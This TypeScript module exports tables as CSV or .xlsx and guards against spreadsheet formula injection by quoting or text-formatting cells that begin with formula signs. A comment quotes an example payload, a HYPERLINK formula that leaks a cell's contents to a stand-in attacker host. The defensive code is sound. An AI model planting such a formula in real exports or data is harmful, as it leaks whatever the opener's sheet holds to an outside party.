// A table as the files people download: CSV (UTF-8 with a BOM and CRLF, which Excel on Chinese
// Windows opens correctly; papaparse quotes what needs quoting) or .xlsx (write-excel-file's
// universal build runs in Workers). Every export and public download goes through here.
import Papa from "papaparse";
import writeXlsxFile from "write-excel-file/universal";

/** A cell: text, a number, or empty. */
export type Cell = string | number | null;

/** A header row and the rows under it. */
export interface Table {
  header: string[];
  rows: Cell[][];
}

/** A table written both ways: CSV text, or an .xlsx workbook. */
export interface TableFiles {
  csv: () => string;
  xlsx: () => Promise<Blob>;
}

// Formula injection ("CSV injection", OWASP): a spreadsheet reads a cell that starts with = + - @
// as a formula, and one that starts with a tab or a line break may be split or trimmed into one, so
// a proposal titled =HYPERLINK("http://attacker.example/?leak="&A2,"x") would run in whoever opens
// the export. Blanks before the sign count too (imports that trim spaces), and so do the full-width
// ＝＋－＠: with a Chinese or Japanese input method a spreadsheet may take them, typed, for = + - @,
// and we cannot rule out the same on import. Text that is only a signed number ("-5", "+12.5",
// what the money columns hold) is left alone: the spreadsheet reads that number and nothing else,
// and quoting it would turn amounts into text. A number cell is a number and never a formula.
const FORMULA_START = /^(?:[\t\r\n]|[\s\u3000]*[=+\-@＝＋－＠])/;
const SIGNED_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;

/** Whether a spreadsheet could read this text cell as a formula. */
const formulaLike = (text: string) => FORMULA_START.test(text) && !SIGNED_NUMBER.test(text);

/** In CSV, where every field is typed text, a formula-like cell is kept text by a leading '. */
const csvCell = (c: Cell) => (c === null ? "" : typeof c === "string" && formulaLike(c) ? `'${c}` : c);

export function toCsv(table: Table): string {
  return `\uFEFF${Papa.unparse(
    [table.header, ...table.rows].map((r) => r.map(csvCell)),
    { newline: "\r\n" },
  )}\r\n`;
}

/**
 * In .xlsx a string is a text cell (write-excel-file writes a formula only for type "Formula"), so
 * it is never evaluated and needs no quote, which would show; a formula-like one is formatted as
 * Text ("@") as well, so that editing the cell in a spreadsheet does not turn it into a formula.
 */
const xlsxText = (value: string) => (formulaLike(value) ? { value, type: String, format: "@" } : { value });

async function toXlsx(table: Table, sheet: string): Promise<Blob> {
  const data = [
    table.header.map((value) => ({ ...xlsxText(value), fontWeight: "bold" as const })),
    ...table.rows.map((r) =>
      r.map((value) => (value === null ? null : typeof value === "string" ? xlsxText(value) : { value })),
    ),
  ];
  return writeXlsxFile(data, { sheet: sheet.slice(0, 31), stickyRowsCount: 1 }).toBlob();
}

/** `table` as either file, the workbook's sheet named `sheet`. */
export function tableFiles(table: Table, sheet: string): TableFiles {
  return { csv: () => toCsv(table), xlsx: () => toXlsx(table, sheet) };
}
